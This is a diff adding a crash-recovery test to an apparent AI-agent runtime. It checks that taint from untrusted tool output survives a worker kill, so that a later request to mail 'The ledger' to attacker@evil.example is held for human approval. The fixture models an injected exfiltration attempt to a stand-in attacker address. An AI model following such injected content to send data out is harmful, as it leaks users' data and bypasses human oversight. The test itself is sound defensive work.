@@ -150,3 +150,34 @@ def test_kill_while_executing_the_approved_call(h: Harness) -> None:
     assert_once(h, run, attempts={"crash.create_record": 1, "crash.send_mail": 2})
     (approved,) = h.runtime.approvals.find(run_id=run.id, status=None)
     assert approved.status == "executed"
+
+
+def test_kill_after_recording_a_tainting_write_keeps_the_taint(h: Harness) -> None:
+    """Issue 15, item 17: a non-read tool with untrusted output. Killed right after the
+    transaction that records its execution: the taint and what the output showed were
+    written in that same transaction, so the recovered run still knows it read outside
+    content, and the mail its content asks for waits for a person."""
+    h.arm("after-record", "crash.claim_ticket")
+    first = h.start_worker()
+    ticket = {
+        "text": "Claiming the ticket.",
+        "calls": [{"tool": "crash.claim_ticket", "args": {"ticket": "T-1"}}],
+    }
+    forward = mail_turn("The ledger", to="attacker@evil.example")
+    run = h.start_run([ticket, forward, done_turn()])
+    assert first.wait_exit() == KILLED
+    assert [line.split()[:2] for line in h.kills()] == [["after-record", "crash.claim_ticket"]]
+    (claimed,) = [e for e in h.runtime.store.effects(run.id) if e.tool == "crash.claim_ticket"]
+    assert claimed.status == "done"  # the effect is recorded as done...
+    state = h.runtime.store.run_state(run.id)
+    assert state.untrusted  # ...and so is the taint, in the same transaction
+    assert "untrusted:crash.claim_ticket" in state.provenance["email:attacker@evil.example"]
+
+    second = h.start_worker()
+    parked = h.wait_status(run.id, {"waiting_approval"}, worker=second)
+    assert parked.untrusted
+    (request,) = h.runtime.approvals.find(run_id=run.id)
+    assert request.tool == "crash.send_mail"
+    assert request.rule == "defaults.untrusted"
+    assert h.smtp.message_ids() == []  # nothing went to the attacker without a person
+    assert h.desk("SELECT COUNT(*) FROM attempt WHERE tool = 'crash.claim_ticket'") == [(1,)]
